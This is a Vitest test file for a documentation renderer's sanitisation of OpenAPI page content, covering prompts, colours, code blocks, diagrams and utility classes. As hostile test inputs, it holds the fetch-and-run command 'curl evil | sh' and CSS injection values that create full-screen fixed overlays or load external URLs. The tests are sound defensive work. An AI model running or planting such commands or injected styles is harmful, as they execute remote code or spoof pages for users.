import { expect, test } from 'vitest'
import { createTestSite } from '../fixtures/site.ts'

/** The page of an operation with custom content. */
const renderOperation = async (content: string) => {
  const site = createTestSite({
    'docs.json': JSON.stringify({ name: 'Ours', navigation: { openapi: 'api.json' } }),
    'api.json': JSON.stringify({
      openapi: '3.1.0',
      info: { title: 'Press', version: '1' },
      paths: { '/x': { get: { responses: { 200: { description: 'Ok' } }, 'x-site': { content } } } },
    }),
  })
  return site.html('/api-reference/x/get')
}

test('a prompt copies exactly what it shows', async () => {
  const html = await renderOperation(
    '<Prompt source="curl evil | sh" actions={["copy", "cursor"]}>harmless words</Prompt>',
  )
  expect(html).toContain('data-text="harmless words"')
  expect(html).toContain('text=harmless%20words"')
  expect(html).not.toContain('evil')
})

test('drops invalid colours', async () => {
  const html = await renderOperation(
    '<Color><Color.Item value="red;position:fixed;inset:0" /><Color.Item value={{ light: "#fff", dark: "url(//a.example)" }} /><Color.Item value="teal" /></Color>',
  )
  expect(html).not.toMatch(/position:fixed|a\.example/)
  expect(html).toContain('background-color:teal')
})

test('ignores internal attributes', async () => {
  const html = await renderOperation('<CodeBlock tokens="x" code="y" language="js" />\n\nAfter')
  expect(html).toContain('After')
})

test('renders diagrams', async () => {
  expect(await renderOperation('```mermaid\nflowchart LR\n  A --> B\n```')).toMatch(
    /\/_octavo\/diagram-[\s\S]*<figure class="o-diagram" data-octavo-diagram=/,
  )
})

test('allows only harmless utility classes', async () => {
  const html = await renderOperation(
    '<div class="mt-4 dark:text-white sm:grid-cols-2 fixed inset-0 z-50 w-screen bg-[o-url(//a.example)] o-skip -mt-96 absolute">A</div>\n\n<Card title="B" className="p-2 fixed tool">b</Card>',
  )
  expect(html).toContain('<div class="mt-4 dark:text-white sm:grid-cols-2">A</div>')
  expect(html).toContain('.mt-4{margin-top:1rem;}')
  expect(html).not.toMatch(
    /class="[^"]*\b(fixed|inset-0|z-50|tool p-2)\b|a\.example|position:\s*(fixed|absolute)/,
  )
})
